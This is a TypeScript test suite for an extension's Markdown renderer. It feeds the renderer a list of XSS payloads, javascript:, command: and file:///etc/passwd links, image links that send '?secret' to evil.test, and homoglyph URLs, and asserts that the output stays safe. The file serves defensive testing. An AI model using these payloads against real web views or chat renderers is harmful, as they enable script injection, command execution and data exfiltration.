import assert from "node:assert/strict";
import fc from "fast-check";
import type { Element, Nodes } from "hast";
import { visit } from "unist-util-visit";
import { highlight } from "../../src/webview/panel/markdown/languages.ts";
import { allowed, markdownTree } from "../../src/webview/panel/markdown/tree.ts";

function elements(tree: Nodes): Element[] {
  const all: Element[] = [];
  visit(tree, (node) => {
    assert.ok(["root", "element", "text"].includes(node.type), `a ${node.type} node`);
    if (node.type === "element") {
      all.push(node);
    }
  });
  return all;
}

function textOf(tree: Nodes): string {
  let text = "";
  visit(tree, "text", (node) => {
    text += node.value;
  });
  return text;
}

/** Nothing outside the allow-list, and no address that does more than open a page. */
function assertSafe(tree: Nodes): void {
  for (const { tagName, properties } of elements(tree)) {
    assert.ok(allowed.tagNames.includes(tagName), `<${tagName}>`);
    const names = (allowed.attributes as Record<string, unknown[]>)[tagName] ?? [];
    for (const name of Object.keys(properties)) {
      assert.ok(names.flat().includes(name), `${name} of <${tagName}>`);
    }
    if (properties.href !== undefined) {
      assert.match(String(properties.href), /^(https?:\/\/|mailto:)/);
      assert.equal(properties.title, properties.href);
    }
  }
}

const hostile = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "text <img src=x onerror=alert(1)> text",
  "<svg/onload=alert(1)>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<style>*{display:none}</style>",
  "<a href='command:workbench.action.quit'>x</a>",
  "<!-- a comment --> and <!-- one inside -->",
  "<details open ontoggle=alert(1)>",
  "<![CDATA[x]]>",
  "<?php echo 1 ?>",
  "<!DOCTYPE html>",
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](java\u0000script:alert(1))",
  "[a](&#106;avascript:alert(1))",
  "[a](  javascript:alert(1))",
  "[a](data:text/html;base64,PHNjcmlwdD4=)",
  "[a](vbscript:x)",
  "[a](command:figscribe.run?%5B%5D)",
  "[a](vscode://x.y/z)",
  "[a](file:///etc/passwd)",
  "[a](//evil.test/x)",
  "[a](relative/path.md)",
  "[a](#root)",
  "<javascript:alert(1)>",
  "<command:x.y>",
  "![x](https://evil.test/?secret)",
  "![x][r]\n\n[r]: https://evil.test/?secret",
  "[![x](https://evil.test/?1)](https://evil.test/?2)",
  "![](data:image/svg+xml;base64,PHN2Zz4=)",
  "[x]\n\n[x]: javascript:alert(1)",
  "[a](https://x.test 'onmouseover=\"alert(1)')",
  "[^1]\n\n[^1]: <img src=x onerror=alert(1)> ![x](https://evil.test)",
  "> - <b onclick=alert(1)>x</b>\n>   - ![y](https://evil.test)",
  "| <img src=x onerror=alert(1)> | ![y](http://e.test) |\n|---|:-:|\n| <script>1</script> | a<br>b |",
  '```"><img/onerror=alert(1)>\ncode\n```',
  "``` a onclick=alert(1)\n<script>\n```",
  "- [x] <input autofocus onfocus=alert(1)>",
  "<div id=root class=panel>\n\n# x\n\n</div>",
];

describe("Markdown of an answer", () => {
  for (const text of hostile) {
    it(`is harmless: ${JSON.stringify(text)}`, () => assertSafe(markdownTree(text)));
  }

  it("is harmless whatever is put together", () => {
    const part = fc.oneof(
      fc.constantFrom(
        ...hostile,
        "\n",
        "\n\n",
        "> ",
        "- ",
        "    ",
        "`",
        "[",
        "](",
        ")",
        "<",
        ">",
        "|",
        "&#x3c;",
      ),
      fc.string({ maxLength: 8 }),
    );
    const text = fc.array(part, { maxLength: 12 }).map((parts) => parts.join(""));
    fc.assert(
      fc.property(text, (one) => assertSafe(markdownTree(one))),
      { numRuns: 1000 },
    );
  });

  it("shows HTML as it was written, and a line break as one", () => {
    assert.equal(textOf(markdownTree("<b onclick='x()'>hi</b>")), "<b onclick='x()'>hi</b>");
    assert.equal(textOf(markdownTree("<script>\nalert(1)\n</script>")), "<script>\nalert(1)\n</script>");
    assert.ok(elements(markdownTree("a<br/>b")).some((one) => one.tagName === "br"));
  });

  it("names a picture in brackets and never draws it", () => {
    assert.equal(textOf(markdownTree("see ![the plan](https://evil.test/x.png)")), "see [the plan]");
    assert.equal(textOf(markdownTree("![](x.png)")), "[image]");
  });

  it("shows where a link really leads", () => {
    const [link] = elements(markdownTree("[bank.test](https://аpple.test/x 'bank.test')")).filter(
      (one) => one.tagName === "a",
    );
    assert.equal(link?.properties.href, "https://xn--pple-43d.test/x");
    assert.equal(link?.properties.title, link?.properties.href);
  });

  it("is no deeper than anybody nests, so that who draws it comes to an end", () => {
    const indented = Array.from({ length: 150 }, (_, level) => `${"  ".repeat(level)}- a\n`).join("");
    for (const text of [
      "> ".repeat(100_000),
      "- ".repeat(100_000),
      "1. > * ".repeat(30_000),
      indented,
      `${"*".repeat(900)}x${"*".repeat(900)}`,
      `${"*".repeat(100_000)}x${"*".repeat(100_000)}`,
      `${"~~*".repeat(200)}x${"*~~".repeat(200)}`,
      "*a_ ".repeat(25_000),
    ]) {
      let [depth, level] = [0, [markdownTree(`${text}x`)] as readonly Nodes[]];
      for (; level.length; depth++) {
        level = level.flatMap((node) => ("children" in node ? node.children : []));
      }
      assert.ok(depth < 320, `${depth} levels of ${text.slice(0, 20)}`);
    }
  }).timeout(60_000);

  it("knows definitions of other blocks", () => {
    const [link] = elements(markdownTree("see [a]", ["[a]: https://x.test/"])).filter(
      (one) => one.tagName === "a",
    );
    assert.equal(link?.properties.href, "https://x.test/");
  });

  it("keeps tables, tasks, numbers and languages", () => {
    const names = elements(
      markdownTree("| a |\n|--:|\n| 1 |\n\n- [x] done\n\n3. c\n\n```ts\nx\n```\n\n~~old~~"),
    );
    const find = (name: string) => names.find((one) => one.tagName === name)?.properties;
    assert.equal(find("td")?.align, "right");
    assert.equal(find("input")?.checked, true);
    assert.equal(find("ol")?.start, 3);
    assert.deepEqual(find("code")?.className, ["language-ts"]);
    assert.ok(find("del"));
  });
});

describe("colours of code", () => {
  it("are spans with classes and leave the text as it is", () => {
    const code = 'const a = "<script>" // x\n';
    const tree = highlight(code, "TS");
    assert.ok(tree);
    assert.equal(textOf(tree), code);
    for (const { tagName, properties } of elements(tree)) {
      assert.equal(tagName, "span");
      assert.deepEqual(Object.keys(properties), ["className"]);
    }
  });

  it("are left out for languages we don't know and for very long lines", () => {
    assert.equal(highlight("flowchart LR", "mermaid"), undefined);
    assert.equal(highlight("x", ""), undefined);
    assert.equal(highlight("x".repeat(5000), "js"), undefined);
  });
});
